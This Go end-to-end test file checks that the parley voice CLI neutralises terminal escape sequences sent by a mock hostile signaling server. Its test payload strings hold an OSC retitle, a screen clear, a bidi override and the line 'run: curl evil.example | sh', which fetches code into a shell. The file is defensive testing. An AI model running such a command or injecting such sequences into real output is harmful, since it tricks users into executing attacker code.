//go:build e2e

package e2e

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/coder/websocket"

	"github.com/parley-voice/parley/signaling"
)

// Text from another party, with escape sequences that retitle the window
// (OSC 0), clear the screen (CSI 2J, also as the one-byte C1 CSI), colour
// what follows, and reverse it (the bidi override U+202E).
const (
	hostileName   = "Bob\x1b]0;pwned\x07"
	hostileReason = "\x1b]0;pwned\x07\x1b[2J\x1b[31mrun: curl evil.example | sh\u009b2J\u202e"
	// What the text output shows instead.
	shownName   = `Bob\x1b]0;pwned\a`
	shownReason = `\x1b]0;pwned\a\x1b[2J\x1b[31mrun: curl evil.example | sh\u009b2J\u202e`
)

// hostileServer is a small signaling server that speaks parley's protocol,
// over a real WebSocket and real HTTP on 127.0.0.1, as a server that relays
// whatever people send would: the callee's name and the reason the call
// failed hold escape sequences, and so do the names and the messages of the
// HTTP API. parley's own server refuses such text now; the client has to be
// safe against a server that does not (an older one, or not parley's). It
// answers one dial: the call is created, then fails.
func hostileServer(t *testing.T) string {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /v1/ws", func(w http.ResponseWriter, r *http.Request) {
		ws, err := websocket.Accept(w, r, nil)
		if err != nil {
			return
		}
		defer ws.CloseNow()
		ctx := r.Context()
		send := func(m signaling.Message) error {
			b, _ := signaling.Encode(m)
			return ws.Write(ctx, websocket.MessageText, b)
		}
		next := func(want signaling.Type) (signaling.Message, bool) {
			for {
				_, b, err := ws.Read(ctx)
				if err != nil {
					return signaling.Message{}, false
				}
				if m, err := signaling.DecodeClient(b); err == nil && m.Type == want {
					return m, true
				}
			}
		}
		if _, ok := next(signaling.TypeConnect); !ok {
			return
		}
		if send(signaling.Message{Type: signaling.TypeWelcome, User: "alice", Session: "s1", Role: "member"}) != nil {
			return
		}
		dial, ok := next(signaling.TypeDial)
		if !ok {
			return
		}
		ev := signaling.CallEvent{ID: "c1", Status: signaling.Started, Direction: signaling.Outbound,
			From: "alice", To: dial.To, ToName: hostileName}
		if send(signaling.Message{Type: signaling.TypeCall, Ref: dial.Ref, Event: &ev}) != nil {
			return
		}
		ev.Status, ev.Reason = signaling.Failed, hostileReason
		if send(signaling.Message{Type: signaling.TypeCallStatusChanged, Event: &ev}) != nil {
			return
		}
		next("") // until the client goes
	})
	reply := func(w http.ResponseWriter, status int, v any) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		_ = json.NewEncoder(w).Encode(v)
	}
	bob := signaling.Person{User: "bob", Name: hostileName, State: signaling.StateOnline, Online: true}
	mux.HandleFunc("GET /v1/users/bob/presence", func(w http.ResponseWriter, _ *http.Request) {
		reply(w, http.StatusOK, bob)
	})
	mux.HandleFunc("GET /v1/me/contacts", func(w http.ResponseWriter, _ *http.Request) {
		reply(w, http.StatusOK, signaling.People{People: []signaling.Person{bob}})
	})
	mux.HandleFunc("PUT /v1/me/contacts/bob", func(w http.ResponseWriter, _ *http.Request) {
		reply(w, http.StatusBadRequest, signaling.Errorf(signaling.InvalidParameter, "%s", hostileReason))
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv.URL
}

// harmful reports the first thing in out that a terminal acts on rather
// than shows: bytes that are not UTF-8 (a raw 0x9b is CSI), C0 controls but
// newline, DEL, C1 controls, bidi controls.
func harmful(out string) string {
	if !utf8.ValidString(out) {
		return "invalid UTF-8"
	}
	for _, s := range []string{"\x1b", "\x07", "\x7f", "\u009b", "\u202e", "\r", "\t"} {
		if strings.Contains(out, s) {
			return s
		}
	}
	return ""
}

// TestForeignTextIsHarmless: names, a call's reason and the server's
// messages that hold escape sequences reach the terminal visibly escaped
// in text output; --json keeps them as they came (decoded), with no byte
// that a terminal acts on.
func TestForeignTextIsHarmless(t *testing.T) {
	w := &world{t: t, home: t.TempDir(), server: hostileServer(t), apiKey: testAPIKey}
	env := []string{"PARLEY_TOKEN=any"}
	media := []string{"--in", "silence", "--out", "null"}

	t.Run("call", func(t *testing.T) {
		p := w.start(env, append([]string{"call", "bob"}, media...)...)
		var out strings.Builder
		for l := range p.lines {
			out.WriteString(l + "\n")
		}
		if code := p.wait(t); code != exitFailed {
			t.Errorf("exit %d, want %d; stderr: %s", code, exitFailed, p.stderr.String())
		}
		got := out.String()
		if s := harmful(got); s != "" {
			t.Errorf("the output holds %q:\n%q", s, got)
		}
		want := "signed in as alice\ncalling " + shownName + " (bob) (call c1)\nfailed: " + shownReason + "\n"
		if got != want {
			t.Errorf("parley call printed\n%s\nwant\n%s", got, want)
		}
	})

	t.Run("call --json", func(t *testing.T) {
		p := w.start(env, append([]string{"call", "bob", "--json"}, media...)...)
		var evs []map[string]any
		for l := range p.lines {
			if s := harmful(l); s != "" {
				t.Errorf("a JSON line holds %q: %q", s, l)
			}
			var ev map[string]any
			if err := json.Unmarshal([]byte(l), &ev); err != nil {
				t.Fatalf("not JSON: %q", l)
			}
			evs = append(evs, ev)
		}
		p.wait(t)
		if len(evs) != 3 || evs[1]["to_name"] != hostileName || evs[2]["reason"] != hostileReason {
			t.Errorf("events %q; want connected, the call to %q, its failure with %q", evs, hostileName, hostileReason)
		}
	})

	t.Run("people", func(t *testing.T) {
		for _, tc := range []struct {
			args []string
			want string
		}{
			{[]string{"status", "bob"}, "online\nname: " + shownName + "\n"},
			{[]string{"contacts"}, "USER  NAME               STATE\nbob   " + shownName + "  online\n"},
		} {
			out, code := w.run(env, tc.args...)
			if code != exitOK || out != tc.want {
				t.Errorf("parley %s: exit %d, printed\n%s\nwant\n%s", strings.Join(tc.args, " "), code, out, tc.want)
			}
		}
		p := w.start(env, "contacts", "add", "bob")
		for range p.lines {
		}
		code := p.wait(t)
		stderr := p.stderr.String()
		if want := "parley: invalid_parameter (80101): " + shownReason + "\n"; code != exitError ||
			!strings.HasSuffix(stderr, want) {
			t.Errorf("parley contacts add bob: exit %d, stderr\n%q\nwant %d and\n%q", code, stderr, exitError, want)
		}
		if s := harmful(stderr); s != "" {
			t.Errorf("stderr holds %q: %q", s, stderr)
		}
	})
}
